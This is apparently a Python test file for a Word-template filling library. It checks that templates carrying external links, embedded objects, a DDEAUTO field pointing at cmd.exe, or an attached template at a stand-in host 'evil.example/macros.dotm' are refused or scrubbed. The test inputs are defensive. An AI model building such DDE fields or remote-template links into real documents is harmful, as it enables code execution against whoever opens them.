"""What a Word template must not carry into the reports that are made of it."""

from io import BytesIO
from zipfile import ZipFile

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as KIND
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from plans.office.frames.fields import fields_of
from plans.office.frames.filling import filled
from plans.office.frames.foreign import ELSEWHERE, EMBEDDED, FIELD, refuse_foreign
from plans.office.packages import Unreadable

KINDS = KIND.HYPERLINK.rpartition("/")[0]
ATTACHED = f"{KINDS}/attachedTemplate"
AWAY = "https://evil.example/macros.dotm"


def template(prepare=lambda word: None) -> bytes:
    word, out = docx.Document(), BytesIO()
    word.add_paragraph("{{ Title }}")
    prepare(word)
    word.save(out)
    return out.getvalue()


def leads(kind):
    return lambda word: word.part.relate_to(AWAY, kind, is_external=True)


def field(*pieces):
    """A field whose instruction Word has cut into pieces."""

    def put(word):
        for piece in pieces:
            instruction = OxmlElement("w:instrText")
            instruction.text = piece
            word.paragraphs[0].add_run()._r.append(instruction)

    return put


def simple_field(word):
    held = OxmlElement("w:fldSimple")
    held.set(qn("w:instr"), f'INCLUDETEXT "{AWAY}"')
    word.paragraphs[0]._p.append(held)


REFUSED = {
    "a linked picture": (leads(KIND.IMAGE), ELSEWHERE),
    "a text from elsewhere": (leads(f"{KINDS}/subDocument"), ELSEWHERE),
    "an object": (leads(KIND.OLE_OBJECT), EMBEDDED),
    "a page of the web": (leads(KIND.A_F_CHUNK), EMBEDDED),
    "a program by a field": (field("DDE", "AUTO c:\\\\windows\\\\cmd.exe"), FIELD.format("DDEAUTO")),
    "a picture by a field": (simple_field, FIELD.format("INCLUDETEXT")),
}


@pytest.mark.parametrize(("prepare", "sentence"), REFUSED.values(), ids=REFUSED)
def test_what_fetches_or_starts_something_is_refused(prepare, sentence):
    with pytest.raises(Unreadable) as refused:
        refuse_foreign(template(prepare))

    assert str(refused.value) == sentence


def test_links_fields_of_word_and_the_template_of_a_text_are_no_reason():
    def prepare(word):
        leads(KIND.HYPERLINK)(word)
        field("PAGE", " \\* MERGEFORMAT")(word)
        begin_with_template(word)

    content = template(prepare)
    refuse_foreign(content)

    assert [each.name for each in fields_of(content)] == ["Title"]


def begin_with_template(word):
    settings = word.part._settings_part
    told = OxmlElement("w:attachedTemplate")
    told.set(qn("r:id"), settings.relate_to(AWAY, ATTACHED, is_external=True))
    settings.element.append(told)


def test_report_does_not_name_the_file_that_its_template_was_begun_with():
    made = filled(template(begin_with_template), words={"Title": "A plan"}, texts={})

    with ZipFile(BytesIO(made)) as archive:
        assert [name for name in archive.namelist() if AWAY.encode() in archive.read(name)] == []
